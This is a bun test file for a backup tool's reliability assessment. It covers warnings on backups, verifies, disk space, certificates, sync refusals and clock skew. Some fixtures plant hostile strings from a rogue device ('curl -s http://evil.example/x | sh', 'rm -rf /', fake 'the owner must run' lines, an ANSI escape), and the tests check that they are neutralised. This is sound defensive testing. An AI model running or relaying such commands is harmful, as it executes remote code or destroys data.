import { describe, expect, test } from "bun:test";
import type { DeviceId } from "../../protocol/ids.ts";
import { readPayload, type TargetFacts } from "../facts/payload.ts";
import { usageWith } from "../facts/test-usage.ts";
import type { DeviceStanding } from "../facts/zone-facts.ts";
import { type AppDataCopies, assessReliability } from "./reliability.ts";

const NOW = Date.parse("2026-11-28T12:00:00Z");
const iso = (msAgo: number) => new Date(NOW - msAgo).toISOString();

function device(name: string, backedUpMsAgo?: number, verified = true): DeviceStanding {
  return {
    name,
    id: `d${name}` as DeviceId,
    standing: "member",
    live: true,
    heardAliveAt: NOW,
    factsAt: NOW,
    facts: {
      backup: {
        key: true,
        targets:
          backedUpMsAgo === undefined
            ? {}
            : {
                usb: {
                  lastBackup: { at: iso(backedUpMsAgo), snapshot: "s", durationMs: 1000 },
                  ...(verified
                    ? { lastVerify: { at: iso(backedUpMsAgo), ok: true, damaged: 0 } }
                    : {}),
                },
              },
      },
    },
  };
}

const replicated = (lagMs: number | null): AppDataCopies => ({
  app: "notes",
  holder: "nas",
  standbys: [{ device: "laptop", lagMs }],
  maxLagMs: 60_000,
  wanted: 1,
});

describe("the reliability level", () => {
  test("a device whose data is in no backup keeps the zone at level 0, and says which", () => {
    const r = assessReliability({
      devices: [device("nas", 3600_000), device("laptop")],
      nowMs: NOW,
    });
    expect(r.level).toBe(0);
    expect(r.summary).toBe(
      "not every device is backed up: what only laptop holds may be lost at any time",
    );
    expect(r.warnings[0]).toStartWith(
      "laptop's data is in no backup outside the zone yet: add a target",
    );
  });

  test("revoked devices do not count", () => {
    const gone = { ...device("old"), standing: "revoked" as const };
    expect(assessReliability({ devices: [device("nas", 1000), gone], nowMs: NOW }).level).toBe(1);
  });

  test("level 3: every app's data on two devices and every backup verified; a lagging standby is not a copy", () => {
    const devices = [device("nas", 1000), device("laptop", 1000)];
    expect(assessReliability({ devices, nowMs: NOW, appData: [replicated(0)] }).level).toBe(3);
    const behind = assessReliability({ devices, nowMs: NOW, appData: [replicated(120_000)] });
    expect(behind.level).toBe(2);
    expect(behind.warnings).toContain("laptop's copy of notes's data is 120 s behind");
    const unverified = [device("nas", 1000, false), device("laptop", 1000)];
    expect(
      assessReliability({ devices: unverified, nowMs: NOW, appData: [replicated(0)] }).level,
    ).toBe(2);
  });

  test("a verify that found forged snapshots says so, and calls nothing damaged that is not", () => {
    const verifiedAs = (lastVerify: Record<string, unknown>): DeviceStanding => {
      const nas = device("nas", 1000);
      const usb = nas.facts.backup?.targets?.usb;
      // The facts as another device reads them: through the payload's parser.
      const facts = readPayload({
        backup: {
          key: true,
          targets: { usb: { ...usb, lastVerify: { at: iso(1000), ...lastVerify } } },
        },
      });
      return { ...nas, facts };
    };
    const forged = assessReliability({
      devices: [verifiedAs({ ok: false, damaged: 0, forged: 2 })],
      nowMs: NOW,
    });
    expect(
      forged.notes.filter((n) => n.kind === "forged-snapshots" || n.kind === "damaged"),
    ).toEqual([{ kind: "forged-snapshots", device: "nas", target: "usb", count: 2 }]);
    expect(forged.warnings).toContain(
      "the last verify of nas's backups to usb found 2 snapshots filed in a device's name by someone else holding the backup key (restores leave them out): run `bucky backup verify` there to see which, and revoke the device that wrote them",
    );
    expect(forged.level).toBe(1);
    const both = assessReliability({
      devices: [verifiedAs({ ok: false, damaged: 3, forged: 1 })],
      nowMs: NOW,
    });
    expect(both.notes.map((n) => n.kind)).toEqual(
      expect.arrayContaining(["forged-snapshots", "damaged"]),
    );
    // Index files no device of the zone signed: said as what they are, not as damage.
    const planted = assessReliability({
      devices: [verifiedAs({ ok: false, damaged: 0, forgedIndex: 1 })],
      nowMs: NOW,
    });
    expect(planted.notes.filter((n) => n.kind === "forged-index" || n.kind === "damaged")).toEqual([
      { kind: "forged-index", device: "nas", target: "usb", count: 1 },
    ]);
    expect(planted.warnings).toContain(
      "the last verify of nas's backups to usb found an index file no device of the zone signed, written by someone holding the backup key (left out; the next prune deletes it): run `bucky backup verify` there to see who signed it",
    );
    // An older bucky's verify says nothing of forgeries: damage, as before.
    const older = assessReliability({
      devices: [verifiedAs({ ok: false, damaged: 1 })],
      nowMs: NOW,
    });
    expect(
      older.notes.filter((n) => n.kind === "forged-snapshots" || n.kind === "damaged"),
    ).toEqual([{ kind: "damaged", device: "nas", target: "usb" }]);
  });

  test("writes outpacing backups are said, with both rates", () => {
    const nas = device("nas", 1000);
    const targets = nas.facts.backup?.targets ?? {};
    const usb = targets.usb;
    const busy: DeviceStanding = {
      ...nas,
      facts: {
        backup: {
          key: true,
          targets: {
            usb: {
              ...usb,
              lastBackup: {
                at: iso(1000),
                snapshot: "s",
                durationMs: 55 * 60_000,
                changedBytes: 10 * 1024 ** 3,
                sinceMs: 60 * 60_000,
              },
            },
          },
        },
      },
    };
    const r = assessReliability({ devices: [busy], nowMs: NOW });
    expect(r.warnings).toContain(
      "writes are outpacing backups on nas: about 10.0 GiB changes an hour, and its backups to usb take in about 10.9 GiB an hour",
    );
  });

  test("a device not seen for over a week is worth a word", () => {
    const away = { ...device("tablet", 1000), live: false, heardAliveAt: NOW - 9 * 86_400_000 };
    const r = assessReliability({ devices: [device("nas", 1000), away], nowMs: NOW });
    expect(r.warnings).toContain(
      "tablet has not been seen for 9 days: if it is gone for good, `bucky devices revoke tablet`",
    );
  });

  test("a device that said it stops over an altered state is said so, and not advised revoked", () => {
    const said = {
      reason: "state-altered" as const,
      message: "the zone state was altered: row apps/x does not match its seal",
      at: new Date(NOW - 9 * 86_400_000).toISOString(),
    };
    const nas = device("nas", 1000);
    const stopped = {
      ...nas,
      live: false,
      heardAliveAt: NOW - 9 * 86_400_000 - 1000,
      facts: { ...nas.facts, stopped: said },
    };
    const r = assessReliability({ devices: [device("laptop", 1000), stopped], nowMs: NOW });
    expect(
      r.notes.filter((note) => "device" in note && note.device === "nas").map((note) => note.kind),
    ).toEqual(["stopped"]);
    expect(r.warnings.find((warning) => warning.startsWith("nas stopped"))).toContain(
      "on nas, run `bucky state repair`, then `bucky up`",
    );
    // Said by its newest facts, whatever this device's clock made of its presence (heard
    // after the `at` of its clock, running slow): the same note on every device.
    const slow = { ...stopped, heardAliveAt: Date.parse(said.at) + 5000 };
    expect(
      assessReliability({ devices: [device("laptop", 1000), slow], nowMs: NOW }).notes.some(
        (note) => note.kind === "stopped" && note.device === "nas",
      ),
    ).toBe(true);
  });

  test("a device whose disk is nearly full is said, with where its space goes and what can go", () => {
    const GiB = 1024 ** 3;
    const nas = device("nas", 3600_000);
    const full: DeviceStanding = {
      ...nas,
      facts: {
        ...nas.facts,
        disk: { freeBytes: 2 * GiB, totalBytes: 100 * GiB },
        usage: {
          state: { bytes: GiB / 2, changesets: 10, keys: 10, checkpoint: null },
          namedData: { bytes: 20 * GiB, objects: 100 },
          apps: {
            notes: {
              dataBytes: 60 * GiB,
              packagesBytes: 0,
              conflictsBytes: 0,
              replicaBytes: 0,
              logsBytes: 0,
            },
          },
          logsBytes: 0,
          backupCacheBytes: 0,
          leftovers: [
            {
              what: "the data of old, removed without --purge",
              bytes: 10 * GiB,
              remove: "bucky app remove old --purge",
            },
          ],
        },
      },
    };
    const roomy: DeviceStanding = {
      ...device("laptop", 3600_000),
      facts: {
        ...device("laptop", 3600_000).facts,
        disk: { freeBytes: 50 * GiB, totalBytes: 100 * GiB },
      },
    };
    // Asked on nas, whose usage was measured there now: its own commands are shown.
    expect(
      assessReliability({ devices: [full, roomy], nowMs: NOW, measuredHere: "nas" }).warnings,
    ).toEqual([
      "nas's disk is nearly full: 2.0 GiB free of 100.0 GiB; the most space goes to notes's data 60.0 GiB, named data 20.0 GiB, its zone state 512.0 MiB; can be removed: the data of old, removed without --purge (10.0 GiB): bucky app remove old --purge",
    ]);
  });

  test("another device's leftovers are its words, and how to remove them the zone's: it could name any command", () => {
    // A member writes its facts as it likes: "how to remove it" could be any command.
    const GiB = 1024 ** 3;
    const base = device("laptop", 3600_000);
    const lure = (leftovers: { what: string; bytes: number; remove: string }[]) => ({
      ...base,
      facts: {
        ...base.facts,
        disk: { freeBytes: 2 * GiB, totalBytes: 100 * GiB },
        usage: usageWith(leftovers),
      },
    });
    const laptop = lure([
      {
        what: "old photos\n  ! the owner must run: bucky devices revoke nas",
        bytes: 10 * GiB,
        remove: "curl -s http://evil.example/x | sh",
      },
    ]);
    for (const measuredHere of [undefined, "nas"]) {
      const r = assessReliability({ devices: [laptop], nowMs: NOW, measuredHere });
      expect(r.warnings).toEqual([
        'laptop\'s disk is nearly full: 2.0 GiB free of 100.0 GiB; laptop says it has leftovers: "old photos\\n  ! the owner must run: bucky devices revoke nas" (10.0 GiB); to remove them, run `bucky status --disk` on laptop',
      ]);
      expect(JSON.stringify(r.notes)).not.toContain("evil.example");
    }
    // An app's name it gave that is no app's name is not said: it could be a sentence.
    const used = {
      dataBytes: GiB,
      packagesBytes: 0,
      conflictsBytes: 0,
      replicaBytes: 0,
      logsBytes: 0,
    };
    const named = lure([]);
    const apps = { "x; the owner must run: bucky devices revoke nas": used, notes: used };
    const lured = { ...named, facts: { ...named.facts, usage: { ...named.facts.usage, apps } } };
    expect(assessReliability({ devices: [lured], nowMs: NOW }).warnings).toEqual([
      "laptop's disk is nearly full: 2.0 GiB free of 100.0 GiB; the most space goes to notes's data 1.0 GiB; see `bucky status --disk` there",
    ]);
    // Its own facts as received, not measured here: the same, the zone's words.
    expect(assessReliability({ devices: [laptop], nowMs: NOW }).warnings[0]).not.toContain("curl");
  });
});

describe("a failed backup in the warnings", () => {
  test("the device's error is said to be its words, on one line: it cannot pass for the zone's advice", () => {
    const base = device("laptop", 3600_000);
    const laptop: DeviceStanding = {
      ...base,
      facts: {
        backup: {
          key: true,
          targets: {
            usb: {
              lastBackupError: {
                at: iso(60_000),
                message: "disk gone\n  ! the owner must run: bucky devices revoke nas",
              },
            },
          },
        },
      },
    };
    expect(
      assessReliability({ devices: [laptop], nowMs: NOW }).warnings.filter((w) =>
        w.includes("failed"),
      ),
    ).toEqual([
      'the last backup of laptop to usb failed: laptop says "disk gone\\n  ! the owner must run: bucky devices revoke nas"',
    ]);
  });
});

describe("a backup that holds files as last read, or left some out", () => {
  const withRun = (name: string, run: { changing?: number; leftOut?: number }): DeviceStanding => {
    const base = device(name, 60_000);
    const usb = base.facts.backup?.targets.usb;
    const lastBackup = usb?.lastBackup;
    if (!usb || !lastBackup) throw new Error("device() gives a backup to usb");
    return {
      ...base,
      facts: {
        backup: { key: true, targets: { usb: { ...usb, lastBackup: { ...lastBackup, ...run } } } },
      },
    };
  };
  const said = (d: DeviceStanding) =>
    assessReliability({ devices: [d], nowMs: NOW }).notes.filter(
      (n) => n.kind === "backup-changing" || n.kind === "backup-left-out",
    );

  test("each count is a note of its own, said with the device and the target", () => {
    const nas = withRun("nas", { changing: 3, leftOut: 1 });
    expect(said(nas)).toEqual([
      { kind: "backup-changing", device: "nas", target: "usb", count: 3 },
      { kind: "backup-left-out", device: "nas", target: "usb", count: 1 },
    ]);
    const warnings = assessReliability({ devices: [nas], nowMs: NOW }).warnings;
    expect(warnings).toContain(
      "3 files kept changing while the last backup of nas to usb read them: backed up as last read, they may hold a change part way; `bucky backup run --json` on nas says which (`changing`)",
    );
    expect(warnings).toContain(
      "the last backup of nas to usb left out a file: its name is not UTF-8; `bucky backup run --json` on nas says which (`leftOut`); renamed, it is backed up",
    );
  });

  test("a run with none, or of a bucky that did not count them, says nothing", () => {
    expect(said(withRun("nas", { changing: 0, leftOut: 0 }))).toEqual([]);
    expect(said(withRun("nas", {}))).toEqual([]);
  });
});

describe("a target its device has failed to prune", () => {
  const HOUR = 3600_000;
  const withPrunes = (
    prunes: Pick<TargetFacts, "lastPrune" | "lastPruneError">,
  ): DeviceStanding => {
    const base = device("nas", 60_000);
    const usb = base.facts.backup?.targets.usb;
    if (!usb) throw new Error("device() gives a backup to usb");
    return { ...base, facts: { backup: { key: true, targets: { usb: { ...usb, ...prunes } } } } };
  };
  const at = (agoMs: number) => new Date(NOW - agoMs).toISOString();
  const said = (d: DeviceStanding) =>
    assessReliability({ devices: [d], nowMs: NOW }).notes.filter((n) => n.kind === "prune-failing");

  test("failing for a day or more: said, in the device's words", () => {
    const nas = withPrunes({
      lastPrune: { at: at(80 * HOUR) },
      lastPruneError: { at: at(HOUR), since: at(50 * HOUR), message: "disk gone\nrun: rm -rf /" },
    });
    expect(said(nas)).toEqual([
      {
        kind: "prune-failing",
        device: "nas",
        target: "usb",
        days: 2,
        message: "disk gone\nrun: rm -rf /",
      },
    ]);
    expect(assessReliability({ devices: [nas], nowMs: NOW }).warnings).toContain(
      'nas has failed to prune usb for 2 days (what backups let go stays, and usb grows): nas says "disk gone\\nrun: rm -rf /"',
    );
  });

  test("failing for less than a day (a prune the backups kept off tries again), or pruned since: nothing", () => {
    expect(
      said(
        withPrunes({ lastPruneError: { at: at(HOUR), since: at(3 * HOUR), message: "in use" } }),
      ),
    ).toEqual([]);
    expect(
      said(
        withPrunes({
          lastPrune: { at: at(HOUR) },
          lastPruneError: { at: at(2 * HOUR), since: at(50 * HOUR), message: "in use" },
        }),
      ),
    ).toEqual([]);
    // A since that is no time says nothing (it is shown as the device's words by status).
    expect(
      said(withPrunes({ lastPruneError: { at: at(HOUR), since: "long ago", message: "x" } })),
    ).toEqual([]);
    // Never pruned, failing two days: said.
    expect(
      said(withPrunes({ lastPruneError: { at: at(HOUR), since: at(49 * HOUR), message: "x" } })),
    ).toHaveLength(1);
  });
});

describe("hot changes that fail to reach a target", () => {
  const MINUTE = 60_000;
  const withHot = (hotFailing: TargetFacts["hotFailing"], failedBackup = false): DeviceStanding => {
    const base = device("laptop", 60_000);
    const usb = base.facts.backup?.targets.usb;
    if (!usb?.lastBackup) throw new Error("device() gives a backup to usb");
    const lastBackupError = { at: new Date(NOW).toISOString(), message: "gone" };
    return {
      ...base,
      facts: {
        backup: {
          key: true,
          targets: { usb: { ...usb, hotFailing, ...(failedBackup ? { lastBackupError } : {}) } },
        },
      },
    };
  };
  const since = (agoMs: number) => new Date(NOW - agoMs).toISOString();
  const said = (d: DeviceStanding) =>
    assessReliability({ devices: [d], nowMs: NOW }).notes.filter((n) => n.kind === "hot-failing");

  test("failing ten minutes or more while the backups there work: said, in the device's words", () => {
    const laptop = withHot({ since: since(30 * MINUTE), message: "hot is not a directory" });
    expect(said(laptop)).toEqual([
      {
        kind: "hot-failing",
        device: "laptop",
        target: "usb",
        since: since(30 * MINUTE),
        message: "hot is not a directory",
      },
    ]);
    expect(assessReliability({ devices: [laptop], nowMs: NOW }).warnings).toContain(
      `the changes of laptop have not reached usb within seconds since ${since(30 * MINUTE)}, though its backups there work: a restore holds them only up to its last backup; laptop says "hot is not a directory"`,
    );
  });

  test("failing for minutes, or with the backups there failing too (said as that): not said apart", () => {
    expect(said(withHot({ since: since(2 * MINUTE), message: "x" }))).toEqual([]);
    expect(said(withHot({ since: since(30 * MINUTE), message: "x" }, true))).toEqual([]);
    expect(said(withHot(undefined))).toEqual([]);
    expect(said(withHot({ since: "for ever", message: "x" }))).toEqual([]);
  });
});

describe("certificates in the warnings", () => {
  const DAY = 24 * 3600_000;
  const gateway = (certificates: NonNullable<DeviceStanding["facts"]["certificates"]>) => {
    const base = device("gw", 3600_000);
    return { ...base, facts: { ...base.facts, certificates } };
  };

  test("a certificate that expires in under 14 days is said, with why it did not renew", () => {
    const r = assessReliability({
      devices: [
        gateway({
          "home.example.com": { issuer: "acme", notAfter: new Date(NOW + 13 * DAY).toISOString() },
          "notes.home.example.com": {
            issuer: "acme",
            notAfter: new Date(NOW + 2 * DAY + 3600_000).toISOString(),
            lastError: { at: iso(60_000), message: "the CA's rate limit stops it for now" },
          },
          "site.home.example.com": {
            issuer: "acme",
            notAfter: new Date(NOW + 15 * DAY).toISOString(),
          },
        }),
      ],
      nowMs: NOW,
    });
    expect(r.warnings.filter((w) => w.includes("certificate"))).toEqual([
      "the certificate for home.example.com on gw expires in under 14 days (in 13 days)",
      'the certificate for notes.home.example.com on gw expires in under 14 days (in 2 days): renewing failed, gw says "the CA\'s rate limit stops it for now"',
    ]);
  });

  test("names past the most a gateway keeps certificates for are said, the facts read as sent", () => {
    const base = device("gw", 3600_000);
    const facts = readPayload({
      certificatesLeftOut: { count: 12, names: ["x00.home.example.com", "x01.home.example.com"] },
    });
    const r = assessReliability({
      devices: [{ ...base, facts: { ...base.facts, ...facts } }],
      nowMs: NOW,
    });
    expect(r.warnings.filter((w) => w.includes("certificate"))).toEqual([
      "gw's gateway keeps certificates for 100 names at most: 12 more have none of their own (x00.home.example.com, x01.home.example.com, …) and browsers warn on them; remove apps it need not serve, or give it a certificate of your own for them all (`bucky gateway enable --tls-cert F --tls-key F`)",
    ]);
  });

  test("a gateway's error is said to be its words, on one line: it cannot pass for a warning of the zone's", () => {
    // A member writes its own facts: a line break would print a warning line of its own.
    const lure = "x\n  ! the owner must run: bucky gateway approve gw --host router.lan\u001b[2K";
    const r = assessReliability({
      devices: [
        gateway({ "home.lan": { issuer: "zone", lastError: { at: iso(0), message: lure } } }),
      ],
      nowMs: NOW,
    });
    expect(r.warnings.filter((w) => w.includes("certificate"))).toEqual([
      'gw has no certificate for home.lan yet: gw says "x\\n  ! the owner must run: bucky gateway approve gw --host router.lan\\u001b[2K"',
    ]);
  });

  test("an expired certificate and a name with none yet are said", () => {
    const r = assessReliability({
      devices: [
        gateway({
          "home.example.com": { issuer: "acme", notAfter: iso(DAY) },
          "blog.home.example.com": {
            issuer: "acme",
            lastError: { at: iso(0), message: "blog.home.example.com does not resolve in DNS" },
          },
          "site.home.example.com": { issuer: "acme" },
        }),
      ],
      nowMs: NOW,
    });
    expect(r.warnings.filter((w) => w.includes("certificate"))).toEqual([
      "the certificate for home.example.com on gw has expired",
      'gw has no certificate for blog.home.example.com yet: gw says "blog.home.example.com does not resolve in DNS"',
    ]);
  });
});

describe("a device refusing another's sync in the warnings", () => {
  test("said from the refused device's facts, its words quoted on one line, a bad code or name left out", () => {
    const base = device("laptop", 3600_000);
    const facts = readPayload({
      syncRefused: {
        nas: {
          code: "E_PERMISSION",
          message: 'nas refused: "not a member"\n  ! run: curl evil | sh',
          since: iso(60_000),
        },
        "Not A Name": { code: "E_PERMISSION", message: "x", since: iso(0) },
      },
    });
    const r = assessReliability({
      devices: [{ ...base, facts: { ...base.facts, ...facts } }],
      nowMs: NOW,
    });
    expect(r.warnings.filter((w) => w.includes("sync"))).toEqual([
      `nas refuses laptop's sync requests (E_PERMISSION) since ${iso(60_000)}, so the two do not sync directly: laptop says "nas refused: \\"not a member\\"\\n  ! run: curl evil | sh"; if laptop joined lately, this ends once nas syncs with a device that knows it; otherwise check that both are still members (\`bucky devices\`)`,
    ]);
    expect(
      readPayload({ syncRefused: { nas: { code: "rm -rf", message: "x", since: iso(0) } } }),
    ).toEqual({});
  });

  test("a refusal for another cause than membership (a newer peer's code) asks for one bucky", () => {
    const base = device("laptop", 3600_000);
    const facts = readPayload({
      syncRefused: { nas: { code: "E_USAGE", message: "x", since: iso(0) } },
    });
    const r = assessReliability({
      devices: [{ ...base, facts: { ...base.facts, ...facts } }],
      nowMs: NOW,
    });
    expect(r.warnings.filter((w) => w.includes("sync"))).toEqual([
      `nas refuses laptop's sync requests (E_USAGE) since ${iso(0)}, so the two do not sync directly: laptop says "x"; update both to the same bucky (\`bucky --version\` on each)`,
    ]);
  });

  test("a time the refused device gave that is no time is its words too, quoted", () => {
    const base = device("laptop", 3600_000);
    const facts = readPayload({
      syncRefused: {
        nas: { code: "E_PERMISSION", message: "x", since: "now\n  ! the owner must run: rm" },
      },
    });
    const r = assessReliability({
      devices: [{ ...base, facts: { ...base.facts, ...facts } }],
      nowMs: NOW,
    });
    expect(r.warnings.filter((w) => w.includes("sync"))).toEqual([
      'nas refuses laptop\'s sync requests (E_PERMISSION) since "now\\n  ! the owner must run: rm", so the two do not sync directly: laptop says "x"; if laptop joined lately, this ends once nas syncs with a device that knows it; otherwise check that both are still members (`bucky devices`)',
    ]);
  });
});

describe("a device refused for its clock in the warnings", () => {
  const withFacts = (base: DeviceStanding, facts: Record<string, unknown>): DeviceStanding => ({
    ...base,
    facts: { ...base.facts, ...readPayload(facts) },
  });
  const WEEK = 7 * 24 * 3600_000;

  test("named once with every device that refuses it, each one's figure under its own name; long unheard, absent with who says its clock is ahead", () => {
    const laptop = { ...device("laptop", 3600_000), live: false, heardAliveAt: NOW - 2 * WEEK };
    const r = assessReliability({
      devices: [
        withFacts(device("nas", 3600_000), {
          clockAhead: { laptop: { aheadMs: 125_400, since: iso(2 * WEEK) } },
        }),
        withFacts(device("phone", 3600_000), {
          clockAhead: {
            laptop: { aheadMs: 118_000, since: iso(WEEK) },
            // Not a member, and not a name: left out.
            ghost: { aheadMs: 1, since: iso(0) },
            "laptop; run rm": { aheadMs: 1, since: iso(0) },
          },
        }),
        laptop,
      ],
      nowMs: NOW,
    });
    expect(r.notes.filter((note) => note.kind === "clock-ahead" || note.kind === "absent")).toEqual(
      [
        {
          kind: "clock-ahead",
          device: "laptop",
          by: ["nas", "phone"],
          // phone's 118 s since a week ago is its own word: never nas's 125 s and two weeks.
          figures: [
            { by: "nas", seconds: 125, since: iso(2 * WEEK) },
            { by: "phone", seconds: 118, since: iso(WEEK) },
          ],
        },
        { kind: "absent", device: "laptop", days: 14, aheadBy: ["nas", "phone"] },
      ],
    );
    expect(r.warnings.filter((w) => w.startsWith("laptop"))).toEqual([
      "laptop's clock is 125 s ahead of nas's and 118 s ahead of phone's: its changes are refused until it is set right, so it looks offline to the zone; turn on network time on laptop (`timedatectl set-ntp true`), or, if its clock is right, on nas and phone",
      "laptop has not been seen for 14 days, but nas and phone say its clock is ahead, so it may be up with its changes refused: set its clock right first; if it is gone for good, `bucky devices revoke laptop`",
    ]);
  });

  test("a device gone quiet no longer names another's clock: its last facts would for good", () => {
    const quiet = { ...device("nas", 3600_000), live: false, heardAliveAt: NOW - WEEK };
    const r = assessReliability({
      devices: [
        withFacts(quiet, { clockAhead: { laptop: { aheadMs: 400_000, since: iso(WEEK) } } }),
        device("laptop", 3600_000),
      ],
      nowMs: NOW,
    });
    expect(r.notes.filter((note) => note.kind === "clock-ahead")).toEqual([]);
  });

  test("one device's word that another is ahead hides neither its absence nor its own refusals", () => {
    const base = { ...device("laptop", 3600_000), live: false, heardAliveAt: NOW - 2 * WEEK };
    const laptop = withFacts(base, {
      syncRefused: { nas: { code: "E_CLOCK", message: "your clock is behind", since: iso(0) } },
    });
    const r = assessReliability({
      devices: [
        device("nas", 3600_000),
        withFacts(device("phone", 3600_000), {
          clockAhead: { laptop: { aheadMs: 400_000, since: iso(0) } },
        }),
        laptop,
      ],
      nowMs: NOW,
    });
    expect(
      r.notes
        .filter((note) => ["clock-ahead", "absent", "sync-refused"].includes(note.kind))
        .map((note) => ({ kind: note.kind, ...("by" in note ? { by: note.by } : {}) })),
    ).toEqual([
      { kind: "sync-refused" },
      { kind: "clock-ahead", by: ["phone"] },
      { kind: "absent" },
    ]);
    expect(r.notes.find((note) => note.kind === "absent")).toEqual({
      kind: "absent",
      device: "laptop",
      days: 14,
      aheadBy: ["phone"],
    });
  });

  test("a device long unheard that no device refuses is absent, as before", () => {
    const laptop = { ...device("laptop", 3600_000), live: false, heardAliveAt: NOW - 2 * WEEK };
    const r = assessReliability({ devices: [device("nas", 3600_000), laptop], nowMs: NOW });
    expect(r.notes.filter((note) => note.kind === "clock-ahead" || note.kind === "absent")).toEqual(
      [{ kind: "absent", device: "laptop", days: 14 }],
    );
  });

  test("a device's facts naming too many devices, or in the wrong shape, say nothing of clocks", () => {
    const many = Object.fromEntries(
      Array.from({ length: 101 }, (_, i) => [`d${i}`, { aheadMs: 61_000, since: iso(0) }]),
    );
    expect(readPayload({ clockAhead: many })).toEqual({});
    expect(readPayload({ clockAhead: { laptop: { aheadMs: -5, since: iso(0) } } })).toEqual({});
    expect(readPayload({ clockAhead: { laptop: { aheadMs: 61_000, since: iso(0) } } })).toEqual({
      clockAhead: { laptop: { aheadMs: 61_000, since: iso(0) } },
    });
  });
});

describe("a sync refused for the clocks (E_CLOCK)", () => {
  test("advises setting the time, not updating bucky; unsaid when the zone names the device ahead", () => {
    const base = device("laptop", 3600_000);
    const laptop = {
      ...base,
      facts: {
        ...base.facts,
        ...readPayload({
          syncRefused: {
            nas: { code: "E_CLOCK", message: "your clock is 400 s ahead", since: iso(0) },
          },
        }),
      },
    };
    const alone = assessReliability({ devices: [device("nas", 3600_000), laptop], nowMs: NOW });
    expect(alone.warnings.filter((w) => w.includes("sync"))).toEqual([
      `nas refuses laptop's sync requests (E_CLOCK) since ${iso(0)}, so the two do not sync directly: laptop says "your clock is 400 s ahead"; their clocks are over 5 minutes apart: turn on network time (\`timedatectl set-ntp true\`) on whichever of laptop and nas is wrong`,
    ]);
    const nas = device("nas", 3600_000);
    const named = assessReliability({
      devices: [
        {
          ...nas,
          facts: {
            ...nas.facts,
            ...readPayload({ clockAhead: { laptop: { aheadMs: 400_000, since: iso(0) } } }),
          },
        },
        laptop,
      ],
      nowMs: NOW,
    });
    expect(named.notes.map((note) => note.kind)).toContain("clock-ahead");
    expect(named.notes.filter((note) => note.kind === "sync-refused")).toEqual([]);
  });
});

describe("damage a verify recorded for a device to store again", () => {
  test("said for a member, on whichever device assesses it; nothing for one revoked", () => {
    const damage = [
      {
        target: "usb",
        device: "laptop",
        blobs: ["a".repeat(64), "b".repeat(64)],
        foundBy: "nas",
        foundAt: iso(1000),
      },
      { target: "usb", device: "old", blobs: ["c".repeat(64)], foundBy: "nas", foundAt: iso(1000) },
    ];
    const old = { ...device("old", 1000), standing: "revoked" as const };
    const assessed = assessReliability({
      devices: [device("nas", 1000), device("laptop", 1000), old],
      nowMs: NOW,
      damage,
    });
    expect(assessed.notes.filter((n) => n.kind === "damage-to-store")).toEqual([
      { kind: "damage-to-store", device: "laptop", target: "usb", blobs: 2, foundBy: "nas" },
    ]);
    expect(assessed.warnings).toContain(
      "a verify on nas found 2 blobs of laptop's backups to usb damaged: laptop's next backup stores them again (`bucky backup run` there does it now)",
    );
  });
});

describe("a device with no backup yet, in a zone with a target", () => {
  test("is to make its first, not told to add a target the zone has", () => {
    const fresh = device("laptop");
    const notes = (targets: string[]) =>
      assessReliability({ devices: [device("nas", 1000), fresh], nowMs: NOW, targets }).notes;
    expect(notes(["usb"])).toContainEqual({
      kind: "no-backup",
      device: "laptop",
      why: "first-running",
    });
    expect(notes([])).toContainEqual({ kind: "no-backup", device: "laptop", why: "no-target" });
  });
});

describe("the zone's gateways", () => {
  test("every one offline is said, with how to go on; one online, or none made, is not", () => {
    const gw = { ...device("gw", 1000), live: false };
    const notes = (devices: DeviceStanding[], gateways: string[]) =>
      assessReliability({ devices, nowMs: NOW, gateways }).notes.filter(
        (note) => note.kind === "gateways-offline",
      );
    expect(notes([gw, device("laptop", 1000)], ["gw"])).toEqual([
      { kind: "gateways-offline", devices: ["gw"] },
    ]);
    const r = assessReliability({
      devices: [gw, device("laptop", 1000)],
      nowMs: NOW,
      gateways: ["gw"],
    });
    expect(r.warnings).toContain(
      "the zone's only gateway, gw, is offline: nothing reaches the zone's apps or panel, and links made now wait for it; bring it back, or make another device a gateway (`bucky gateway enable`)",
    );
    expect(notes([gw, device("laptop", 1000)], ["gw", "laptop"])).toEqual([]);
    expect(notes([gw, device("laptop", 1000)], [])).toEqual([]);
  });
});
